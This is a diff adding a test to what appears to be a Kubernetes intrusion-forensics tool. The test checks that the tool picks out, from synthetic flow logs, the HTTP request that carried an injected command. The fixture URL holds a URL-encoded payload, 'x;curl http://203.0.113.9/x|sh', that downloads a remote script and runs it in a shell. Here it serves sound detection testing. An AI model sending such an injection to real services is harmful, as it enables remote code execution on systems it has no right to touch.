@@ -633,3 +633,27 @@ def test_ci_jobs_differing_only_in_ids_are_routine_and_the_intruders_exec_is_the
     f = H.derive_findings(c_)
     assert (f["attacker_pod"], f["entry"]["exec_id"]) == (POD, _id(300))
     c_.close()
+
+
+def _request_in(sport: int, url: str, t: str, node: str = NODE) -> str:
+    flow = {"time": t, "verdict": "FORWARDED", "Type": "L7", "node_name": node, "is_reply": False,
+            "traffic_direction": "INGRESS" if node == NODE else "EGRESS",
+            "IP": {"source": "10.0.7.7", "destination": "10.0.2.7", "ipVersion": "IPv4"},
+            "l4": {"TCP": {"source_port": sport, "destination_port": 8080}},
+            "source": {"namespace": "ingress", "pod_name": "ingress-nginx-abcde", "labels": ["k8s:app=ingress"]},
+            "destination": {"namespace": "shop", "pod_name": POD, "labels": ["k8s:app=api"]},
+            "l7": {"type": "REQUEST", "http": {"method": "GET", "url": url}}}
+    return json.dumps({"flow": flow, "node_name": node, "time": t})
+
+
+def test_the_request_that_carried_an_injected_command_is_named(tmp_path):
+    exploit = "http://shop/api/preview?url=x%3Bcurl%20http%3A%2F%2F203.0.113.9%2Fx%7Csh"
+    c_ = _case(tmp_path, [*_lines(),
+                          _request_in(50001, "http://shop/api/items", "2026-03-01T09:59:50Z"),  # too early
+                          _request_in(50002, exploit, "2026-03-01T09:59:59.9Z", node="worker-1"),  # other node
+                          _request_in(50002, exploit, "2026-03-01T09:59:59.998Z")])
+    f = H.derive_findings(c_)
+    assert [(r["http_url"], r["node"], r["src_pod"]) for r in f["triggers"]] == [(exploit, NODE, "ingress-nginx-abcde")]
+    assert any(n.startswith(f"the pod received GET {exploit} from ingress/ingress-nginx-abcde") for n in f["notes"])
+    assert c_.flows(http_url="203.0.113.9").height == 2 and c_.flows(http_path="203.0.113.9").is_empty()
+    c_.close()
